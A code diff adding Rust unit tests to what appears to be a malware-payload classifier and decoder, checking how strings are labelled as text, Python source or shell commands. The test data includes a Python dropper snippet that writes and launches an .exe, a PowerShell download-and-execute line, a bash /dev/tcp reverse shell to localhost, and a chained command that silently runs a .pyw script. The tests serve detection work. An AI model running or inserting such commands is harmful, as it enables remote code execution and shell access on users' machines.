@@ -487,6 +487,34 @@ fn prose_and_docstrings_are_not_code() {
 }
 
 #[test]
+fn random_bytes_that_happen_to_be_utf8_are_not_text() {
+    // 8 bytes of hex that decode to valid but meaningless CJK-range UTF-8.
+    assert_eq!(decode("53e8948ce5a8b24c"), None);
+    let cjk = "e8948ce5a8b2e4b883e4b88be4b889";
+    assert_eq!(decode(cjk), None);
+}
+
+#[test]
+fn text_starting_like_a_short_marshal_string_is_not_unwrapped() {
+    // "z" + " " (= 32) + 32 characters has the shape of a marshal TYPE_SHORT_ASCII.
+    let s = format!("z {}", "a = 1+8; #commented_out_thing()");
+    assert_eq!(s.len(), 33);
+    let s = format!("z {}", "a = 1+8; #commented_out_things()");
+    assert_eq!(marshal::unwrap_string(s.as_bytes()), None);
+    assert_eq!(decode(&s), None);
+}
+
+#[test]
+fn python_with_embedded_binary_and_machine_spacing() {
+    let dropper = "import os as o\nimport tempfile as t\np=o.path.join(t.gettempdir(),'x.exe')\n\
+        if not o.path.exists(p):\n    with open(p, 'wb') as f:\n        f.write(b'MZ\\x90((((\\x00)')\n\
+    o.startfile(p)\n";
+    assert_eq!(classify(dropper.as_bytes()), PayloadKind::PythonSource);
+    let minified = "import sys #line:2\nfrom os .path import join ,split #line:3\nfrom subprocess import Popen #line:4\n";
+    assert_eq!(classify(minified.as_bytes()), PayloadKind::PythonSource);
+}
+
+#[test]
 fn plain_python_literal_is_not_a_decoding() {
     // Source that is not encoded is for the detectors to parse, not a payload.
     assert_eq!(decode(PY), None);
@@ -506,6 +534,8 @@ fn classify_code_and_commands() {
     assert_eq!(classify(b"cmd /c start /b calc.exe"), PayloadKind::ShellCommand);
     assert_eq!(classify(b"powershell -nop -w hidden -c \"iex(iwr http://127.0.0.1)\""), PayloadKind::ShellCommand);
     assert_eq!(classify(b"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), PayloadKind::ShellCommand);
+    assert_eq!(classify(b"pip install requests & echo import os > \"x.pyw\" & start /b pythonw x.pyw"), PayloadKind::ShellCommand);
+    assert_eq!(classify(b"To get started, run pip install safe-pip in a virtual environment."), PayloadKind::Text);
     assert_eq!(classify(b"hello world"), PayloadKind::Text);
     assert_eq!(classify(&noise(100, 9)), PayloadKind::Binary);
     assert_eq!(classify(b"import the data before you start"), PayloadKind::Text);
